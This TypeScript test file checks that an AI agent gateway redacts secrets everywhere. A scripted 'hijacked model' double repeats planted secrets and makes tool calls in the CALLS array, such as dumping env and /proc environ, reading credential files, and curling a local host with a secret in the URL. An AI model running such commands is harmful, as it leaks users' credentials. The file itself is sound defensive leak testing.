// Secrets of every kind in every place where one may lie, pushed through a whole gateway and every command there is, by a
// model that says them, looks for them and sends them off. Afterwards nothing that was said or written has one in it.
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { PassThrough } from 'node:stream';
import type { Command } from 'commander';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createProgram } from '../../src/cli/program.ts';
import { writeSecret } from '../../src/secrets/files.ts';
import { createVault } from '../../src/secrets/vault.ts';
import { type ModelServer, type ReplyBehaviour, type SeenRequest, startModelServer } from '../doubles/model-server.ts';
import { type CommandResult, newHome, runCommand, startTestGateway, type TestGateway } from '../support/gateway.ts';
import { formsOf, leakSearch } from '../support/leaks.ts';
import { plainSamples, type SecretSample, tokenSamples } from '../support/secret-samples.ts';
import type { WsClient } from '../support/ws-client.ts';

const pool = [...tokenSamples()];
const take = (count: number): SecretSample[] => pool.splice(0, count);
/** Of no shape, so that only knowing them helps; and the rest by place. */
const ODD = plainSamples();
const GATEWAY_TOKEN = ODD.find(({ kind }) => kind === 'gateway token')?.value ?? '';
const IN = {
  config: take(6),
  exec: take(5),
  envFile: take(6),
  environment: take(5),
  vault: [...take(6), ...ODD.filter((_, index) => index % 2 === 1)],
  files: [...take(6), ...ODD.filter(({ kind }, index) => index % 2 === 0 && kind !== 'gateway token')],
};
/** Nobody has told the gateway about these. */
const BY_LOOKS = pool;
const KNOWN = [...Object.values(IN).flat(), { kind: 'gateway token', value: GATEWAY_TOKEN }];
const SAMPLES = [...KNOWN, ...BY_LOOKS];
const [ofKnown, ofLooks] = [leakSearch(KNOWN), leakSearch(BY_LOOKS, false)];
const leaksIn = (text: string): string[] => [...ofKnown(text), ...ofLooks(text)];

const environment = Object.fromEntries(IN.environment.map(({ value }, index) => [`LEAK_${index}_TOKEN`, value]));

/** A HOME with a secret in each place where one may lie. */
function plant(home: string, modelUrl: string): void {
  const state = join(home, '.openclaw');
  const helper = join(home, 'helper');
  mkdirSync(join(state, 'workspace'), { recursive: true, mode: 0o700 });
  mkdirSync(helper, { mode: 0o700 });
  writeSecret(join(state, 'credentials'), 'gateway-token', GATEWAY_TOKEN);
  for (const [index, { value }] of IN.files.entries()) writeSecret(join(state, 'credentials'), `f${index}`, value);
  const key = { kind: 'file', path: join(state, 'vault.key') } as const;
  const vault = createVault({ path: join(state, 'vault'), key, now: Date.now });
  for (const [index, { value }] of IN.vault.entries()) vault.set(`v${index}`, value);
  const lines = IN.envFile.map(({ value }, index) => `PLANTED_${index}_KEY='${value}'\n`);
  writeFileSync(join(state, '.env'), lines.join(''), { mode: 0o600 });
  for (const [index, { value }] of IN.exec.entries()) writeFileSync(join(helper, `${index}`), value, { mode: 0o600 });
  writeFileSync(join(helper, 'run'), `#!/bin/sh\nenv > ${helper}/env-$1; cat ${helper}/$1\n`, { mode: 0o700 });
  const provider = (apiKey: unknown) => ({
    ...{ baseUrl: `${modelUrl}/v1`, apiKey, api: 'openai-completions' },
    models: [{ id: 'double', contextWindow: 128_000 }],
  });
  const keys = [
    ...IN.config.map(({ value }) => value),
    ...IN.exec.map((_, index) => ({ source: 'exec', provider: 'helper', id: `${index}` })),
    { source: 'vault', id: 'v0' },
    { source: 'file', id: 'f0' },
    ...['${LEAK_0_TOKEN}', '${PLANTED_0_KEY}'],
  ];
  const config = {
    models: { providers: Object.fromEntries(keys.map((apiKey, index) => [`p${index}`, provider(apiKey)])) },
    agents: { defaults: { model: { primary: 'p0/double' } } },
    secrets: { providers: { helper: { source: 'exec', command: join(helper, 'run'), args: ['{id}'] } } },
  };
  writeFileSync(join(state, 'openclaw.json'), JSON.stringify(config, null, 2), { mode: 0o600 });
  const planted = SAMPLES.flatMap(({ value }) => [value, Buffer.from(value).toString('base64')]).join('\n\n');
  writeFileSync(join(state, 'workspace', 'planted.txt'), planted, { mode: 0o600 });
  writeFileSync(join(state, 'workspace', 'USER.md'), `My passwords:\n${planted.slice(0, 4_000)}`, { mode: 0o600 });
}

/** What a hijacked model does: says all it knows, in pieces, and looks for the rest. */
const SAYS = SAMPLES.map(({ value }) => `so: ${value} .`);
const CALLS = [
  { name: 'read', args: { path: 'planted.txt' } },
  { name: 'exec', args: { command: 'cat planted.txt; env; cat /proc/*/environ | tr "\\0" "\\n"' } },
  { name: 'exec', args: { command: 'env > child-env.txt; tr "\\0" "\\n" < /proc/1/environ >> child-env.txt' } },
  { name: 'read', args: { path: '../credentials/f0' } },
  { name: 'write', args: { path: 'copied.txt', content: KNOWN[0]?.value } },
  { name: 'exec', args: { command: `curl http://127.0.0.1:9/${BY_LOOKS[0]?.value}` } },
  { name: `tool-${BY_LOOKS[1]?.value}`, args: { [KNOWN[1]?.value ?? '']: KNOWN[2]?.value } },
];
function misbehave({ user, rounds }: SeenRequest): ReplyBehaviour {
  const call = user.includes('use tools') ? CALLS[rounds] : undefined;
  if (call) return { toolCalls: [call], fragments: 9 };
  const part = Number(/part (\d+)/.exec(user)?.[1] ?? 0);
  return {
    text:
      SAYS.slice(part * 10, part * 10 + 10)
        .join('\n')
        .match(/[\s\S]{1,7}/g) ?? [],
  };
}

let model: ModelServer;
let gateway: TestGateway;
let client: WsClient;
const said: { where: string; text: string }[] = [];
const note = (where: string, what: unknown): void =>
  void said.push({ where, text: typeof what === 'string' ? what : JSON.stringify(what) });
/** A command's streams; the address of the page has the token in it, and is asked for by who may have it. */
const noteCommand = (words: readonly string[], { stdout, stderr }: CommandResult): void => {
  const shown = words[0] === 'dashboard' ? stdout.replaceAll(GATEWAY_TOKEN, '') : stdout;
  note(`openclaw ${words.join(' ').slice(0, 60)}`, `${shown}\n${stderr}`);
};
const attempt = async (where: string, act: () => Promise<unknown>): Promise<void> =>
  note(where, await act().catch((error: Error) => ({ ...error, message: error.message })));

beforeAll(async () => {
  model = await startModelServer({ apiKey: IN.config[0]?.value ?? '' });
  model.script(misbehave);
  const home = newHome();
  plant(home, model.url);
  gateway = await startTestGateway({ home, env: environment, args: ['--verbose'] });
  client = await gateway.connect();
  client.on((frame) => note(`event ${frame.event}`, frame));
});
afterAll(async () => {
  await client?.close();
  await gateway?.dispose();
  await model?.close();
});

describe('a gateway whose model, clients and commands are full of secrets', () => {
  test('turns: what the owner types, what the model says in pieces of seven characters, what tools return', async () => {
    const forms = SAMPLES.map(({ kind, value }, index) =>
      index < KNOWN.length ? `${kind}: ${formsOf(value).join(' , ')}` : `${kind}: ${value}`,
    );
    for (let part = 0; part * 10 < SAMPLES.length; part++) {
      const turn = await client.chat(
        'agent:main:main',
        `part ${part}\n${forms.slice(part * 10, part * 10 + 10).join('\n')}`,
      );
      expect(turn).toMatchObject({ state: 'final' });
      expect(turn.text).toContain('so: [redacted] .');
      note('reply', turn);
    }
    const turn = await client.chat('agent:main:main', 'part 0, use tools');
    expect(turn.state).toBe('final');
    expect(model.requests.at(-1)?.rounds).toBe(CALLS.length);
    expect(existsSync(join(gateway.stateDir, 'workspace', 'copied.txt')), 'nothing is written in place of it').toBe(
      false,
    );
  });

  test('the environment of a child has none: of a command in the sandbox, and of a program that is asked for a secret', () => {
    const inSandbox = readFileSync(join(gateway.stateDir, 'workspace', 'child-env.txt'), 'utf8');
    expect(inSandbox).toContain('HOME=/workspace');
    const ofHelper = readFileSync(join(gateway.home, 'helper', 'env-0'), 'utf8');
    expect(ofHelper).toContain('PATH=');
    expect(leaksIn(inSandbox + ofHelper)).toEqual([]);
    expect(inSandbox + ofHelper).not.toMatch(/LEAK_|PLANTED_/);
  });

  test('the provider is sent its key, as a header', () => {
    expect(model.requests[0]?.headers.authorization).toBe(`Bearer ${IN.config[0]?.value}`);
  });

  test('every method that takes words, with secrets for words', async () => {
    const key = 'agent:main:main';
    for (const { value } of [...IN.files, ...IN.vault.slice(0, 4), ...BY_LOOKS.slice(0, 6)]) {
      const id = value.replace(/\s/g, '_').slice(0, 200);
      await attempt('patch', () => client.request('sessions.patch', { key, label: value.slice(0, 200) }));
      await attempt('model', () => client.request('sessions.patch', { key, model: id }));
      await attempt('key', () => client.request('sessions.describe', { key: `agent:main:${id}` }));
      await attempt('bad key', () => client.request('sessions.describe', { key: value }));
      await attempt('search', () => client.request('sessions.list', { search: value.slice(0, 200) }));
      await attempt('method', () => client.request(id));
      const send = { sessionKey: `agent:main:${id.slice(0, 100)}`, message: 'hello', idempotencyKey: `x-${id}` };
      await attempt('send', () => client.request('chat.send', send));
    }
    for (const { value } of ODD.slice(1, 3))
      await attempt('wrong token', () => gateway.connect({ token: `${value}x`, timeoutMs: 2_000 }));
    for (const method of ['config.get', 'sessions.list', 'status', 'health', 'models.list', 'agents.list', 'logs.tail'])
      await attempt(method, () => client.request(method, {}));
    await attempt('history', () => client.request('chat.history', { sessionKey: key, limit: 1_000 }));
  });

  test('every command of the command line, beside the gateway and without it', { timeout: 600_000 }, async () => {
    const leaves = leavesOf(createProgram(silentStreams(), async () => {}));
    expect(leaves.length).toBeGreaterThan(35);
    const beside = LIVE.map((words) => ({ words, home: gateway.home, env: gateway.env, input: '' }));
    const copy = newHome();
    try {
      cpSync(join(gateway.home, '.openclaw', 'openclaw.json'), join(copy, '.openclaw', 'openclaw.json'));
      for (const name of ['credentials', 'vault', 'vault.key', '.env', 'logs'])
        cpSync(join(gateway.stateDir, name), join(copy, '.openclaw', name), { recursive: true });
      const alone = leaves.flatMap((leaf, index) =>
        spoken(leaf, index).map((words) => ({ words, home: copy, env: environment, input: `${secretAt(index)}\n` })),
      );
      const run = async ({ words, home, env, input }: (typeof beside)[number]): Promise<void> =>
        noteCommand(words, await runCommand(words, { home, env, input, timeoutMs: 60_000 }));
      // What is rotated or removed is no secret of this machine any more, so that comes last.
      const changes = ({ words }: (typeof beside)[number]): boolean => /^(secrets|token)$/.test(words[0] ?? '');
      await inTurns([...beside, ...alone.filter((one) => !changes(one))], 4, run);
      await inTurns(alone.filter(changes), 1, run);
      // What the commands of the copy left there was said by them, and is looked at too.
      noteFolder(join(copy, '.openclaw'));
    } finally {
      rmSync(copy, { recursive: true, force: true });
    }
  });

  test('nothing that was said has a secret in it: replies, events, errors, commands, what the model was shown', () => {
    note('output of the gateway', gateway.output().replaceAll(`#token=${GATEWAY_TOKEN}`, ''));
    for (const request of model.requests) note('request to the model', request.body);
    expect(said.length).toBeGreaterThan(200);
    expect(leaksOf(said)).toEqual([]);
  });

  test('nor has anything in the state folder: database, snapshots, log, configuration history', async () => {
    said.length = 0;
    await client.close();
    await gateway.stop();
    noteFolder(gateway.stateDir);
    const places = said.map(({ where }) => where).join('\n');
    for (const place of ['state.sqlite messages', 'state.sqlite journal', 'state.sqlite inbox', 'openclaw.log'])
      expect(places).toContain(place);
    expect(places).toMatch(/snapshots\/.*messages/);
    expect(leaksOf(said)).toEqual([]);
  });
});

/** By place, each once: a list that a person can read. */
function leaksOf(all: readonly { where: string; text: string }[]): string[] {
  return [...new Set(all.flatMap(({ where, text }) => leaksIn(text).map((leak) => `${where} | ${leak}`)))].slice(0, 30);
}

type Leaf = { readonly path: readonly string[]; readonly command: Command };

function leavesOf(command: Command, path: readonly string[] = []): Leaf[] {
  if (command.commands.length === 0) return [{ path, command }];
  return command.commands.flatMap((child) => leavesOf(child, [...path, child.name()]));
}

const silentStreams = () => ({ stdin: new PassThrough(), stdout: new PassThrough(), stderr: new PassThrough() });
const secretAt = (index: number): string => KNOWN[index % KNOWN.length]?.value ?? '';

/** Starts, ends or installs something when it gets its way: such a command is only ever asked for the impossible. */
const POWERFUL = /^(gateway (run|start|restart|install|uninstall)|onboard|setup|chat|dashboard|uninstall|reset)\b/;

/** Each command as it is meant, with secrets for its arguments, and with secrets for its options. */
function spoken({ path, command }: Leaf, index: number): string[][] {
  const wanted = command.registeredArguments.map((_, n) => secretAt(index + n));
  const options = command.options
    .filter((option) => option.required && option.long !== undefined)
    .map((option, n) => `${option.long}=${secretAt(index + n + 3)}`);
  const odd = [
    [...path, ...wanted, `${secretAt(index + 7)}`, '--json'],
    [...path, ...wanted, ...options],
  ];
  if (POWERFUL.test(path.join(' '))) return odd.slice(0, 1);
  return [[...path, ...command.registeredArguments.map(() => 'main')], ...odd];
}

/** Beside the running gateway: all that only reads, and a change of the configuration with its history. */
const LIVE: readonly string[][] = [
  ['status', '--deep'],
  ['sessions', 'list', '--json'],
  ['sessions', 'show', 'main', '--json'],
  ['logs', '--tail', '5000'],
  ['logs', '--tail', '5000', '--json'],
  ['config', 'set', 'logging.level', 'debug'],
  ['config', 'history'],
  ['config', 'diff', '--json'],
  ['config', 'get', '--json'],
  ['config', 'validate', '--json'],
  ['secrets', 'audit', '--json'],
  ['secrets', 'list', '--json'],
  ['doctor', '--json'],
  ['gateway', 'call', 'config.get'],
  ['gateway', 'call', secretAt(3)],
  ['agent', '-m', `part 1 ${secretAt(5)}`],
  ['agent', '-m', `part 2 ${secretAt(9)}`, '--json'],
  ['agent', '-m', 'x', '--session-key', secretAt(12)],
  ['approvals', 'approve', secretAt(13)],
  ['models', 'list', '--json'],
  ['dashboard', '--no-open'],
];

async function inTurns<T>(jobs: readonly T[], atOnce: number, work: (job: T) => Promise<void>): Promise<void> {
  const waiting = jobs.values();
  await Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (const job of waiting) await work(job);
    }),
  );
}

/** Where secrets belong, and what this test has put there itself. */
const ASIDE =
  /^(credentials|vault|vault\.key|\.env|openclaw\.json|workspace\/(planted\.txt|USER\.md)|checkpoints\/objects)(\/|$)/;
/** Versions are kept byte for byte, with what the owner wrote into them, and with nothing else. */
const VERSIONS = /^(config-history|config-pending)/;

function noteFolder(root: string, at = root): void {
  for (const name of readdirSync(at)) {
    const path = join(at, name);
    const where = relative(root, path);
    if (ASIDE.test(where)) continue;
    if (statSync(path).isDirectory()) {
      noteFolder(root, path);
      continue;
    }
    const bytes = readFileSync(path, 'latin1') + readFileSync(path, 'utf8');
    const own = VERSIONS.test(where) ? IN.config.map(({ value }) => value) : [];
    note(
      where,
      own.reduce((text, value) => text.replaceAll(value, '').replaceAll(value.slice(0, 40), ''), bytes),
    );
    if (name.endsWith('.sqlite')) noteTables(where, path);
  }
}

function noteTables(where: string, path: string): void {
  const db = new DatabaseSync(path, { readOnly: true });
  const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all();
  for (const { name } of tables)
    for (const row of db.prepare(`SELECT * FROM "${name}"`).all())
      note(`${where} ${name}`, Object.values(row).join('\n'));
  db.close();
}
